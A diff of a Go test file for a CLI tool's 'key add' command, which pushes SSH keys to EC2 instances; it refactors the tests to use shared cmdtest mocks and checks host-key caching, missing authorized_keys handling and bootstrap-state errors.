@@ -811,19 +751,19 @@ func TestKeyAddTOFUKeyscanCachedAcrossCalls(t *testing.T) {
 		return "SHA256:cachedfp", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAITest", nil
 	}
 
-	remote := &keyMockRemote{output: []byte{}} // grep returns empty (no match)
+	remote := &cmdtest.RemoteRunner{Output: []byte{}} // grep returns empty (no match)
 	deps := &keyAddDeps{
-		describe:       &mockDescribeForSSH{output: makeRunningInstanceWithAZ("i-abc123", "default", "alice", "1.2.3.4", "us-east-1a")},
-		sendKey:        &mockSendSSHPublicKey{output: &ec2instanceconnect.SendSSHPublicKeyOutput{Success: true}},
+		describe:       &cmdtest.DescribeInstances{Output: makeRunningInstanceWithAZ("i-abc123", "default", "alice", "1.2.3.4", "us-east-1a")},
+		sendKey:        &cmdtest.SendSSHPublicKey{Output: &ec2instanceconnect.SendSSHPublicKeyOutput{Success: true}},
 		owner:          "alice",
-		remoteRunner:   remote.run,
+		remoteRunner:   remote.Run,
 		hostKeyStore:   sshconfig.NewHostKeyStore(t.TempDir()),
 		hostKeyScanner: scanner,
 		fingerprintFn:  func(key string) (string, error) { return "SHA256:cached", nil },
 	}
 
 	cmd := newKeyAddCommandWithDeps(deps)
-	root := newTestRootForKey()
+	root := cmdtest.NewRoot()
 	root.AddCommand(newKeyCommandWithChild(cmd))
 
 	buf := new(bytes.Buffer)
@@ -837,8 +777,8 @@ func TestKeyAddTOFUKeyscanCachedAcrossCalls(t *testing.T) {
 	}
 
 	// Grep + append = 2 remote calls, but keyscan should only run once.
-	if len(remote.calls) != 2 {
-		t.Fatalf("expected 2 remote calls, got %d", len(remote.calls))
+	if len(remote.Calls()) != 2 {
+		t.Fatalf("expected 2 remote calls, got %d", len(remote.Calls()))
 	}
 	if scanCalls != 1 {
 		t.Errorf("keyscan should be called exactly once (cached), got %d calls", scanCalls)
@@ -850,19 +790,19 @@ func TestKeyAddFreshVMMissingAuthorizedKeys(t *testing.T) {
 	// would exit with code 2 (file not found), causing remoteRunner to return
 	// an error. The sh -c wrapper with "|| true" tolerates this and returns
 	// empty output, so the key add proceeds to append.
-	remote := &keyMockRemote{output: []byte{}} // grep wrapper returns empty (file missing or no match)
+	remote := &cmdtest.RemoteRunner{Output: []byte{}} // grep wrapper returns empty (file missing or no match)
 	deps := &keyAddDeps{
-		describe:       &mockDescribeForSSH{output: makeRunningInstanceWithAZ("i-fresh", "default", "alice", "1.2.3.4", "us-east-1a")},
-		sendKey:        &mockSendSSHPublicKey{output: &ec2instanceconnect.SendSSHPublicKeyOutput{Success: true}},
+		describe:       &cmdtest.DescribeInstances{Output: makeRunningInstanceWithAZ("i-fresh", "default", "alice", "1.2.3.4", "us-east-1a")},
+		sendKey:        &cmdtest.SendSSHPublicKey{Output: &ec2instanceconnect.SendSSHPublicKeyOutput{Success: true}},
 		owner:          "alice",
-		remoteRunner:   remote.run,
+		remoteRunner:   remote.Run,
 		hostKeyStore:   sshconfig.NewHostKeyStore(t.TempDir()),
 		hostKeyScanner: mockHostKeyScanner("SHA256:freshfp", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAITest", nil),
 		fingerprintFn:  func(key string) (string, error) { return "SHA256:fresh123", nil },
 	}
 
 	cmd := newKeyAddCommandWithDeps(deps)
-	root := newTestRootForKey()
+	root := cmdtest.NewRoot()
 	root.AddCommand(newKeyCommandWithChild(cmd))
 
 	buf := new(bytes.Buffer)
@@ -876,26 +816,26 @@ func TestKeyAddFreshVMMissingAuthorizedKeys(t *testing.T) {
 	}
 
 	// Should have called remote runner twice: grep check + append.
-	if len(remote.calls) != 2 {
-		t.Fatalf("expected 2 remote calls, got %d", len(remote.calls))
+	if len(remote.Calls()) != 2 {
+		t.Fatalf("expected 2 remote calls, got %d", len(remote.Calls()))
 	}
 
 	// Verify grep is a single-element command containing || true (tolerates missing file).
-	grepCall := remote.calls[0]
-	if len(grepCall.command) != 1 {
-		t.Fatalf("grep call must be a single-element command slice, got %d: %v", len(grepCall.command), grepCall.command)
+	grepCall := remote.Calls()[0]
+	if len(grepCall.Command) != 1 {
+		t.Fatalf("grep call must be a single-element command slice, got %d: %v", len(grepCall.Command), grepCall.Command)
 	}
-	grepScript := grepCall.command[0]
+	grepScript := grepCall.Command[0]
 	if !strings.Contains(grepScript, "|| true") {
 		t.Errorf("grep command should contain '|| true' to tolerate missing files, got: %s", grepScript)
 	}
 
 	// Verify append is a single-element command that creates .ssh directory on fresh VMs.
-	appendCall := remote.calls[1]
-	if len(appendCall.command) != 1 {
-		t.Fatalf("append call must be a single-element command slice, got %d: %v", len(appendCall.command), appendCall.command)
+	appendCall := remote.Calls()[1]
+	if len(appendCall.Command) != 1 {
+		t.Fatalf("append call must be a single-element command slice, got %d: %v", len(appendCall.Command), appendCall.Command)
 	}
-	appendScript := appendCall.command[0]
+	appendScript := appendCall.Command[0]
 	if !strings.Contains(appendScript, "mkdir -p") {
 		t.Errorf("append command should contain mkdir -p for fresh VMs, got: %s", appendScript)
 	}
@@ -911,19 +851,19 @@ func TestKeyAddGrepNoMatchProceedsToAppend(t *testing.T) {
 	// When grep finds no matching key (exit code 1 in real execution),
 	// the sh -c wrapper with "|| true" returns empty output and no error.
 	// The command should proceed to append the key.
-	remote := &keyMockRemote{output: []byte{}} // empty output = no match
+	remote := &cmdtest.RemoteRunner{Output: []byte{}} // empty output = no match
 	deps := &keyAddDeps{
-		describe:       &mockDescribeForSSH{output: makeRunningInstanceWithAZ("i-abc123", "default", "alice", "1.2.3.4", "us-east-1a")},
-		sendKey:        &mockSendSSHPublicKey{output: &ec2instanceconnect.SendSSHPublicKeyOutput{Success: true}},
+		describe:       &cmdtest.DescribeInstances{Output: makeRunningInstanceWithAZ("i-abc123", "default", "alice", "1.2.3.4", "us-east-1a")},
+		sendKey:        &cmdtest.SendSSHPublicKey{Output: &ec2instanceconnect.SendSSHPublicKeyOutput{Success: true}},
 		owner:          "alice",
-		remoteRunner:   remote.run,
+		remoteRunner:   remote.Run,
 		hostKeyStore:   sshconfig.NewHostKeyStore(t.TempDir()),
 		hostKeyScanner: mockHostKeyScanner("SHA256:testfp", "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAITest", nil),
 		fingerprintFn:  func(key string) (string, error) { return "SHA256:nomatch", nil },
 	}
 
 	cmd := newKeyAddCommandWithDeps(deps)
-	root := newTestRootForKey()
+	root := cmdtest.NewRoot()
 	root.AddCommand(newKeyCommandWithChild(cmd))
 
 	buf := new(bytes.Buffer)
@@ -937,8 +877,8 @@ func TestKeyAddGrepNoMatchProceedsToAppend(t *testing.T) {
 	}
 
 	// Should proceed to append (2 calls: grep + append).
-	if len(remote.calls) != 2 {
-		t.Fatalf("expected 2 remote calls (grep + append), got %d", len(remote.calls))
+	if len(remote.Calls()) != 2 {
+		t.Fatalf("expected 2 remote calls (grep + append), got %d", len(remote.Calls()))
 	}
 
 	output := buf.String()
@@ -950,21 +890,21 @@ func TestKeyAddGrepNoMatchProceedsToAppend(t *testing.T) {
 func TestKeyAddBootstrapFailed(t *testing.T) {
 	// Bug #139: mint key add should return a helpful error when bootstrap=failed,
 	// not proceed to keyscan and produce a useless "ssh-keyscan failed: exit status 1".
-	remote := &keyMockRemote{}
+	remote := &cmdtest.RemoteRunner{}
 	deps := &keyAddDeps{
-		describe: &mockDescribeForSSH{
-			output: makeRunningInstanceWithBootstrap("i-abc123", "default", "alice", "1.2.3.4", "us-east-1a", "failed"),
+		describe: &cmdtest.DescribeInstances{
+			Output: makeRunningInstanceWithBootstrap("i-abc123", "default", "alice", "1.2.3.4", "us-east-1a", "failed"),
 		},
-		sendKey:        &mockSendSSHPublicKey{},
+		sendKey:        &cmdtest.SendSSHPublicKey{},
 		owner:          "alice",
-		remoteRunner:   remote.run,
+		remoteRunner:   remote.Run,
 		hostKeyStore:   sshconfig.NewHostKeyStore(t.TempDir()),
 		hostKeyScanner: mockHostKeyScanner("SHA256:testfp", "ssh-ed25519 test", nil),
 		fingerprintFn:  func(key string) (string, error) { return "SHA256:test", nil },
 	}
 
 	cmd := newKeyAddCommandWithDeps(deps)
-	root := newTestRootForKey()
+	root := cmdtest.NewRoot()
 	root.AddCommand(newKeyCommandWithChild(cmd))
 
 	buf := new(bytes.Buffer)
@@ -983,29 +923,29 @@ func TestKeyAddBootstrapFailed(t *testing.T) {
 		t.Errorf("error should mention 'mint recreate', got: %s", err.Error())
 	}
 	// Remote runner must NOT be called — SSH is not available.
-	if len(remote.calls) != 0 {
-		t.Errorf("remote runner should not be called when bootstrap failed, got %d calls", len(remote.calls))
+	if len(remote.Calls()) != 0 {
+		t.Errorf("remote runner should not be called when bootstrap failed, got %d calls", len(remote.Calls()))
 	}
 }
 
 func TestKeyAddBootstrapPending(t *testing.T) {
 	// Bug #139: mint key add should return a helpful error when bootstrap=pending,
 	// not attempt keyscan on a VM that isn't ready yet.
-	remote := &keyMockRemote{}
+	remote := &cmdtest.RemoteRunner{}
 	deps := &keyAddDeps{
-		describe: &mockDescribeForSSH{
-			output: makeRunningInstanceWithBootstrap("i-abc123", "default", "alice", "1.2.3.4", "us-east-1a", "pending"),
+		describe: &cmdtest.DescribeInstances{
+			Output: makeRunningInstanceWithBootstrap("i-abc123", "default", "alice", "1.2.3.4", "us-east-1a", "pending"),
 		},
-		sendKey:        &mockSendSSHPublicKey{},
+		sendKey:        &cmdtest.SendSSHPublicKey{},
 		owner:          "alice",
-		remoteRunner:   remote.run,
+		remoteRunner:   remote.Run,
 		hostKeyStore:   sshconfig.NewHostKeyStore(t.TempDir()),
 		hostKeyScanner: mockHostKeyScanner("SHA256:testfp", "ssh-ed25519 test", nil),
 		fingerprintFn:  func(key string) (string, error) { return "SHA256:test", nil },
 	}
 
 	cmd := newKeyAddCommandWithDeps(deps)
-	root := newTestRootForKey()
+	root := cmdtest.NewRoot()
 	root.AddCommand(newKeyCommandWithChild(cmd))
 
 	buf := new(bytes.Buffer)
@@ -1021,8 +961,8 @@ func TestKeyAddBootstrapPending(t *testing.T) {
 		t.Errorf("error should mention 'bootstrap is not complete', got: %s", err.Error())
 	}
 	// Remote runner must NOT be called — SSH is not available yet.
-	if len(remote.calls) != 0 {
-		t.Errorf("remote runner should not be called when bootstrap is pending, got %d calls", len(remote.calls))
+	if len(remote.Calls()) != 0 {
+		t.Errorf("remote runner should not be called when bootstrap is pending, got %d calls", len(remote.Calls()))
 	}
 }
 